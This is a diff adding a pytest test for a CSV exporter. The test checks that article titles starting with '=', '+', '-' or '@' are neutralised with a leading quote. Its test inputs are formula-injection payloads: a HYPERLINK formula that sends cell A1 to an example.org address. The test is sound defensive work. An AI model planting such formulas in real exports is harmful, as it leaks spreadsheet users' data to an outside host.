@@ -14,6 +14,7 @@ from markdown_it import MarkdownIt
 from reader.exports import render
 from reader.exports.files import write_atomically
 from reader.exports.ics import fold, span
+from reader.exports.tables import inert
 from reader.model import Actor, Analysis, Article, Event, document
 
 TEXT = (
@@ -133,6 +134,18 @@ def test_the_actor_table_parses_back_one_row_per_actor():
     assert rows[0]["aliases"] == "Ruiz" and rows[0]["mentions"] == "3"
     assert rows[0]["kind"] == "person" and rows[1]["kind"] == "organization"
     assert {r["article"] for r in rows} == {ARTICLE.title}
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(first):
+    title = f'{first}HYPERLINK("https://example.org/?"&A1,"Open")'
+    crafted = Article(text=TEXT, title=title, published=ARTICLE.published, source="feed")
+    for what in ("actors", "events"):
+        rows = list(
+            csv.DictReader(io.StringIO(render("csv", [(crafted, ANALYSIS)], table=what).text))
+        )
+        assert rows and {r["article"] for r in rows} == {"'" + title}
+    assert inert("2024-03-03") == "2024-03-03" and inert(3) == 3
 
 
 def test_the_event_table_parses_back_one_row_per_event():
